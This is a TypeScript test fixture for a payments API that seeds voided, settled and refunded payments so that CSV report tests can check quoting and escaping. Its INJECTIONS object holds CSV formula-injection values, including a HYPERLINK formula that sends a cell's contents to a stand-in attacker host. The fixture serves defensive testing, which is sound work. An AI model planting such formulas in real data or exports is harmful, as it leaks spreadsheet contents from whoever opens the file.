import type { LightMyRequestResponse } from 'fastify';
import type { TestContext, TestPartner } from '../../helpers/context.ts';
import { type Body, type Paid, adjust, makePayment, settleNow } from './refund-void-fixtures.ts';

/**
 * The payments the report tests read: made through the API at set moments (the test clock), then
 * voided, settled and refunded as a partner would. Names hold formula-like text (CSV injection)
 * and characters CSV must quote.
 */
export interface ReportFixture {
  sources: { first: string; second: string };
  organizations: { first: string; second: string };
  /** The non-profit partner's payments by letter, oldest first. */
  paid: Record<'a' | 'b' | 'c' | 'd' | 'e' | 'f' | 'g', Paid>;
  /** The for-profit partner's. */
  others: Paid[];
}

async function payAt(ctx: TestContext, at: string, options: { partner?: TestPartner; kind?: 'card' | 'ach'; body?: Body }): Promise<Paid> {
  ctx.clock.set(at);
  return makePayment(ctx, options);
}

export const INJECTIONS = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: '+1-555-0100',
  at: '@SUM(1+1)',
  minus: '-2+3',
  tab: '\tTabbed',
  carriageReturn: '\rReturned',
};

export async function seedReportPayments(ctx: TestContext): Promise<ReportFixture> {
  const np = ctx.nonProfit;
  const second = await ctx.services.partners.createIntegrationSource(np.ClientId, { name: 'Second, "quoted" source', duplicateCheck: true });
  const org2 = await ctx.services.partners.createOrganization(np.ClientId, { name: 'Second organization' });
  const paid = {
    a: await payAt(ctx, '2026-01-10T10:00:00Z', { body: { TranId: 'r-1', FirstName: 'Ada', LastName: 'Lovelace', ExternalConstituentId: 'donor-1' } }),
    b: await payAt(ctx, '2026-01-15T23:59:59Z', {
      body: {
        TranId: INJECTIONS.minus,
        CardNum: '5555555555554444',
        FirstName: INJECTIONS.formula,
        LastName: INJECTIONS.plus,
        ExternalConstituentId: INJECTIONS.at,
        IntegrationSource: second,
        Transactions: [{ TransactionSourceGroupId: '1', Amount: '250.00', PayFee: true }],
      },
    }),
    c: await payAt(ctx, '2026-02-01T00:00:00Z', { kind: 'ach', body: { TranId: 'r-3', OrganizationGuid: org2, LastName: 'O"Brien, Jr.\r\nIII' } }),
    d: await payAt(ctx, '2026-02-01T12:00:00Z', { body: { TranId: 'r-4', CardNum: '4000000000000002', Transactions: [{ TransactionSourceGroupId: '1', Amount: '75.00' }] } }),
    e: await payAt(ctx, '2026-02-03T12:00:00Z', { body: { TranId: 'r-5', Transactions: [{ TransactionSourceGroupId: '1', Amount: '20.00' }] } }),
    f: await payAt(ctx, '2026-02-04T12:00:00Z', { body: { TranId: 'r-6', Transactions: [{ TransactionSourceGroupId: '1', Amount: '30.00' }] } }),
    g: await payAt(ctx, '2026-02-04T13:00:00Z', { body: { TranId: 'r-7', Transactions: [{ TransactionSourceGroupId: '1', Amount: '40.00' }] } }),
  };
  // The API trims names; a payer name that begins with a tab or a carriage return can still come
  // from elsewhere (the pay page, an older version), so two are stored as such.
  await ctx.store.sql.query('UPDATE payments SET first_name = $2 WHERE id = $1', [paid.c.PaymentGuid, INJECTIONS.tab]);
  await ctx.store.sql.query('UPDATE payments SET first_name = $2 WHERE id = $1', [paid.d.PaymentGuid, INJECTIONS.carriageReturn]);
  ctx.clock.set('2026-02-03T13:00:00Z');
  expectOk(await adjust(ctx, 'void', { PaymentGuid: paid.e.PaymentGuid, Reason: 'changed mind' }));
  ctx.clock.set('2026-02-05T03:00:00Z');
  await settleNow(ctx);
  ctx.clock.set('2026-02-06T09:30:00Z');
  expectOk(await adjust(ctx, 'refund', { PaymentGuid: paid.f.PaymentGuid, Reason: 'returned' }));
  const others = [
    await payAt(ctx, '2026-01-20T10:00:00Z', { partner: ctx.forProfit, body: { TranId: 'r-1', FirstName: 'Other' } }),
    await payAt(ctx, '2026-02-02T10:00:00Z', { partner: ctx.forProfit, body: { TranId: 'other-2', FirstName: 'Other' } }),
  ];
  ctx.clock.set('2026-03-01T12:00:00Z');
  return { sources: { first: np.integrationSourceId, second }, organizations: { first: np.organizationId!, second: org2 }, paid, others };
}

function expectOk(res: LightMyRequestResponse) {
  if (res.statusCode !== 200 || res.json<{ Successful: boolean }>().Successful !== true) throw new Error(`adjustment failed: ${res.body}`);
}
